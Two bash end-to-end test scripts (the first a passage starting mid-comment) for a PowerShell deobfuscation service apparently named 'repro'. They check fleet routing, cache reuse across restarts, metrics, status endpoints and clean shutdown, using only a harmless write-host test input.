# routing is deterministic (X-Repro-Instance stable across
# resubmission), scrape the aggregated /metrics, then kill one
# instance, restart it on the same port and cache directory, and
# require >=90% of the previously-seen scripts to be answered from the
# persisted cache.
set -euo pipefail

workdir="$(mktemp -d)"
cleanup() {
    kill -TERM "${restart_pid:-}" 2>/dev/null || true
    kill -TERM "${fleet_pid:-}" 2>/dev/null || true
    wait 2>/dev/null || true
    rm -rf "$workdir"
}
trap cleanup EXIT

python -m repro fleet --instances 2 --port 0 \
    --port-file "$workdir/router-port" \
    --workdir "$workdir/fleet" --cache-root "$workdir/cache" \
    --jobs 2 2>"$workdir/fleet.log" &
fleet_pid=$!

for _ in $(seq 1 300); do
    [ -s "$workdir/router-port" ] && break
    kill -0 "$fleet_pid" 2>/dev/null || {
        echo "fleet died during startup:" >&2
        cat "$workdir/fleet.log" >&2
        exit 1
    }
    sleep 0.1
done
[ -s "$workdir/router-port" ] || { echo "no router port after 30s" >&2; exit 1; }
base="http://127.0.0.1:$(cat "$workdir/router-port")"
echo "fleet routing on $base"

# One POST through the router; prints "<instance>\t<cache_hit>".
submit() {
    curl -sf -D "$workdir/headers" "$base/deobfuscate" \
        -d "{\"script\": \"write-host fleet-$1\"}" >"$workdir/body"
    python - "$workdir/headers" "$workdir/body" <<'PY'
import json, sys
headers = {}
for line in open(sys.argv[1], encoding="utf-8"):
    if ":" in line:
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = value.strip()
body = json.load(open(sys.argv[2], encoding="utf-8"))
assert body["status"] == "ok", body
print(f"{headers['x-repro-instance']}\t{body['cache_hit']}")
PY
}

# Round 1: ten unique scripts, record where each lands.
: >"$workdir/round1"
for i in $(seq 1 10); do
    submit "$i" >>"$workdir/round1"
done
if grep -q "True" "$workdir/round1"; then
    echo "unexpected cache hit on first sight of a script" >&2
    exit 1
fi

# Round 2: resubmission routes to the same instance and hits its cache.
: >"$workdir/round2"
for i in $(seq 1 10); do
    submit "$i" >>"$workdir/round2"
done
paste "$workdir/round1" "$workdir/round2" | python -c '
import sys
for line in sys.stdin:
    inst1, _hit1, inst2, hit2 = line.split("\t")
    assert inst1 == inst2, f"routing moved: {inst1} -> {inst2}"
    assert hit2.strip() == "True", "resubmission missed the cache"
'
echo "deterministic routing and cache affinity confirmed"

metrics="$(curl -sf "$base/metrics")"
echo "$metrics" | grep -q '^repro_fleet_instances 2$'
echo "$metrics" | grep -q '^repro_fleet_healthy_instances 2$'
echo "$metrics" | grep -q '^repro_service_requests_total 20$'
routed_total="$(echo "$metrics" \
    | awk '/^repro_fleet_routed_total{/ {sum += $2} END {print sum}')"
[ "$routed_total" -eq 20 ] || {
    echo "routed counters sum to $routed_total, expected 20" >&2
    exit 1
}
echo "aggregated metrics confirmed"

curl -sf "$base/statusz" | python -c '
import json, sys
status = json.load(sys.stdin)
assert status["instances"] == 2, status
one = status["windows"]["1m"]
assert one["requests"] == 20, one
assert one["exemplar"]["trace_id"], one
assert sum(status["router"]["routed"].values()) == 20, status["router"]
'
python -m repro top --url "$base" --once | grep -q "instances=2"
echo "fleet /statusz aggregation confirmed"

# Kill instance 0, then restart it on the same port with the same
# persisted cache directory.
port0="$(cat "$workdir/fleet/port-0")"
# -o: the oldest match is the serve process itself; forked workers
# share its command line.  The fleet parent only reaps children at its
# own shutdown, so a drained instance lingers as a zombie — check the
# process *state*, not `kill -0` (which succeeds on zombies).
inst0_pid="$(pgrep -o -f "$workdir/fleet/port-0")"
inst0_gone() {
    state="$(awk '{print $3}' "/proc/$inst0_pid/stat" 2>/dev/null || echo gone)"
    [ "$state" = "Z" ] || [ "$state" = "gone" ]
}
kill -TERM "$inst0_pid"
for _ in $(seq 1 100); do
    inst0_gone && break
    sleep 0.1
done
if ! inst0_gone; then
    echo "instance 0 did not exit after SIGTERM" >&2
    exit 1
fi
echo "instance 0 stopped"

python -m repro serve --port "$port0" \
    --port-file "$workdir/fleet/port-0-restarted" \
    --cache-dir "$workdir/cache/instance-0" \
    --jobs 2 2>"$workdir/serve-restart.log" &
restart_pid=$!
for _ in $(seq 1 100); do
    [ -s "$workdir/fleet/port-0-restarted" ] && break
    sleep 0.1
done
[ -s "$workdir/fleet/port-0-restarted" ] || {
    echo "restarted instance never came up:" >&2
    cat "$workdir/serve-restart.log" >&2
    exit 1
}

curl -sf "http://127.0.0.1:$port0/healthz" | python -c '
import json, sys
health = json.load(sys.stdin)
warm = health["warm_start"]
assert warm["warm_start"] is True, warm
assert warm["loaded_entries"] >= 1, warm
'
echo "instance 0 warm-started from its persisted cache"

# Give the router's prober a moment to mark the instance back up.
for _ in $(seq 1 100); do
    healthy="$(curl -sf "$base/healthz" | python -c '
import json, sys
print(json.load(sys.stdin)["healthy_instances"])
' || echo 0)"
    [ "$healthy" = "2" ] && break
    sleep 0.2
done
[ "$healthy" = "2" ] || { echo "instance 0 never rejoined" >&2; exit 1; }

# Round 3: the same ten scripts again.  Routing must match round 1 and
# >=90% must come straight from cache — the restarted instance answers
# its share from disk without re-executing the pipeline.
: >"$workdir/round3"
for i in $(seq 1 10); do
    submit "$i" >>"$workdir/round3"
done
paste "$workdir/round1" "$workdir/round3" | python -c '
import sys
hits = total = 0
for line in sys.stdin:
    inst1, _hit1, inst3, hit3 = line.split("\t")
    assert inst1 == inst3, f"routing moved after restart: {inst1} -> {inst3}"
    total += 1
    hits += hit3.strip() == "True"
assert total == 10, total
assert hits >= 9, f"only {hits}/{total} warm cache hits after restart"
print(f"warm cache hits after restart: {hits}/{total}")
'

kill -TERM "$restart_pid"
wait "$restart_pid" || { echo "restarted instance exited non-zero" >&2; exit 1; }
restart_pid=""
kill -TERM "$fleet_pid"
wait "$fleet_pid" || { echo "fleet exited non-zero" >&2; exit 1; }
fleet_pid=""
grep -q "drained cleanly" "$workdir/fleet.log"
echo "fleet drain confirmed (exit 0)"
