#!/usr/bin/env bash
# End-to-end smoke test for `repro serve`, run by CI and runnable
# locally: boot the service on an ephemeral port, prove the result
# cache works over real HTTP, scrape /metrics and /statusz, render
# them with `repro top --once` / `repro logs`, then check that
# SIGTERM drains cleanly (exit 0).
set -euo pipefail

workdir="$(mktemp -d)"
trap 'kill "${server_pid:-}" 2>/dev/null || true; rm -rf "$workdir"' EXIT

python -m repro serve --port 0 --port-file "$workdir/port" \
    --jobs 2 --log-file "$workdir/events.jsonl" --log-level debug \
    2>"$workdir/serve.log" &
server_pid=$!

for _ in $(seq 1 100); do
    [ -s "$workdir/port" ] && break
    kill -0 "$server_pid" 2>/dev/null || {
        echo "server died during startup:" >&2
        cat "$workdir/serve.log" >&2
        exit 1
    }
    sleep 0.1
done
[ -s "$workdir/port" ] || { echo "no port file after 10s" >&2; exit 1; }
port="$(cat "$workdir/port")"
base="http://127.0.0.1:$port"
echo "serving on $base"

payload='{"script": "I`E`X (\"wri\"+\"te-host smoke\")"}'

first="$(curl -sf "$base/deobfuscate" -d "$payload")"
echo "$first" | python -c '
import json, sys
body = json.load(sys.stdin)
assert body["status"] == "ok", body
assert body["cache_hit"] is False, body
assert "Write-Host smoke" in body["script"], body
'

second="$(curl -sf "$base/deobfuscate" -d "$payload")"
echo "$second" | python -c '
import json, sys
body = json.load(sys.stdin)
assert body["cache_hit"] is True, body
'
echo "cache hit confirmed on second request"

curl -sf "$base/healthz" | python -c '
import json, sys
health = json.load(sys.stdin)
assert health["status"] == "ok", health
assert health["version"], health
'

metrics="$(curl -sf "$base/metrics")"
echo "$metrics" | grep -q '^repro_service_requests_total 2$'
echo "$metrics" | grep -q '^repro_service_cache_hits_total 1$'
echo "$metrics" | grep -q '^repro_pipeline_pieces_recovered_total'
echo "metrics scrape confirmed"

curl -sf "$base/statusz" | python -c '
import json, sys
status = json.load(sys.stdin)
one = status["windows"]["1m"]
assert one["requests"] == 2, one
assert one["latency_p50_ms"] > 0, one
# The exemplar trace id must resolve into the event-log tail.
exemplar = one["exemplar"]["trace_id"]
traces = {e.get("trace_id") for e in status["log_tail"]}
assert exemplar in traces, (exemplar, traces)
assert status["window_raw"]["slots"], status
'
echo "/statusz windows + exemplar correlation confirmed"

python -m repro top --url "$base" --once > "$workdir/top.out"
grep -q "repro top — $base" "$workdir/top.out"
grep -q "1m " "$workdir/top.out"
echo "repro top --once confirmed"

python -m repro logs "$workdir/events.jsonl" --level warning \
    > "$workdir/logs.out"
python -m repro logs "$workdir/events.jsonl" --logger service \
    --tail 5 | grep -q "service"
echo "repro logs filters confirmed"

kill -TERM "$server_pid"
wait "$server_pid"
status=$?
[ "$status" -eq 0 ] || {
    echo "server exited $status after SIGTERM" >&2
    cat "$workdir/serve.log" >&2
    exit 1
}
grep -q "drained cleanly" "$workdir/serve.log"
echo "SIGTERM drain confirmed (exit 0)"
